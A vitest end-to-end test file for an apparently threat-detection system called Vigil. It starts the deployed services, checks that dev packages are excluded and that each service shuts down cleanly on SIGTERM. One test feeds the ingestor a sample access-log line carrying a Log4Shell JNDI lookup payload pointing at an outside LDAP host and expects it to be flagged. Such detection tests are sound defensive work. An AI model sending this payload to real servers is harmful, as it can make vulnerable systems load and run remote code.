import { execFile } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { freePorts } from '@vigil/dev-services/free-port';
import { startOwnedProcess, type OwnedProcess } from '@vigil/dev-services/owned-process';
import { testServices } from '@vigil/dev-services/test-services';
import { waitUntil } from '@vigil/dev-services/wait-until';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { IMAGES, makeDeployedTrees } from './deployed-trees.ts';

/** What images hold, run as images run it, but for the container: the output of `pnpm deploy --prod` on real servers. */
const SERVICES = ['dispatcher', 'scorer', 'gateway', 'ingestor'] as const;
const KEY = 'vgl_for_the_deployed_test';
const ATTACK = `203.0.113.9 - - [23/Nov/2026:12:00:00 +0000] "GET /?x=\${jndi:ldap://198.51.100.7/a} HTTP/1.1" 200 12 "-" "curl/8"`;

const run = promisify(execFile);
const work = mkdtempSync(join(tmpdir(), 'vigil-deployed-'));
const running = new Map<string, OwnedProcess>();
let env: NodeJS.ProcessEnv;
let gatewayUrl: string;
let ingestorUrl: string;

const node = (service: string, ...args: string[]) => ({
  args: ['--conditions=built', 'dist/main.js', ...args],
  cwd: join(work, service),
});

async function start(service: string, more: NodeJS.ProcessEnv): Promise<void> {
  const [opsPort] = await freePorts(1);
  const child = await startOwnedProcess({
    name: service,
    command: process.execPath,
    ...node(service),
    env: { ...env, ...more, OPS_PORT: String(opsPort) },
    logFile: join(work, `${service}.log`),
    stopSignal: 'SIGTERM',
    stopTimeoutMs: 30_000,
    startTimeoutMs: 60_000,
    probe: async () => {
      const response = await fetch(`http://127.0.0.1:${opsPort}/ready`);
      if (!response.ok) throw new Error(await response.text());
    },
  });
  running.set(service, child);
}

beforeAll(async () => {
  const { redisUrl, natsUrl, postgresUrl } = await testServices(['redis', 'nats', 'postgres']);
  await makeDeployedTrees(work);
  env = {
    PATH: process.env['PATH'],
    NODE_ENV: 'production',
    HOST: '127.0.0.1',
    REDIS_URL: redisUrl,
    DATABASE_URL: postgresUrl,
    NATS_URL: natsUrl,
    VIGIL_API_KEYS: `test:admin:${KEY}`,
  };
  const { args, cwd } = node('cli', 'migrate');
  await run(process.execPath, args, { cwd, env });
  const [gatewayPort, ingestorPort] = await freePorts(2);
  gatewayUrl = `http://127.0.0.1:${gatewayPort}`;
  ingestorUrl = `http://127.0.0.1:${ingestorPort}`;
  await start('dispatcher', {});
  await start('scorer', {});
  await start('gateway', { PORT: String(gatewayPort) });
  await start('ingestor', { PORT: String(ingestorPort) });
}, 600_000);

afterAll(async () => {
  for (const child of running.values()) await child.stop();
  rmSync(work, { recursive: true, force: true });
}, 120_000);

test('deployed trees hold JavaScript alone, and none of the packages that only development needs', () => {
  for (const image of IMAGES) {
    const packages = readdirSync(join(work, image, 'node_modules/.pnpm'));
    expect(packages.filter((name) => /^(typescript|vitest|oxlint|prettier|vite)@/.test(name))).toEqual([]);
  }
  for (const service of SERVICES) expect(readdirSync(join(work, service))).not.toContain('src');
});

test('an attack that is pushed to the deployed ingestor is told by the deployed gateway', async () => {
  const pushed = await fetch(`${ingestorUrl}/ingest/batch`, {
    method: 'POST',
    headers: { 'x-api-key': KEY, 'content-type': 'text/plain' },
    body: `${ATTACK}\n`,
  });
  expect(pushed.status).toBe(202);
  const found = await waitUntil(
    async () => {
      const response = await fetch(`${gatewayUrl}/threats`, { headers: { 'x-api-key': KEY } });
      const text = await response.text();
      return text.includes('203.0.113.9') ? text : undefined;
    },
    { timeoutMs: 30_000, what: 'the stored threat' },
  );
  expect(found).toContain('LOG4SHELL');
});

test.each(SERVICES.toReversed())('%s leaves in order on SIGTERM', async (service) => {
  const child = running.get(service)!;
  await child.kill('SIGTERM');
  expect(await child.ended()).toEqual({ code: 0, signal: null });
  running.delete(service);
});
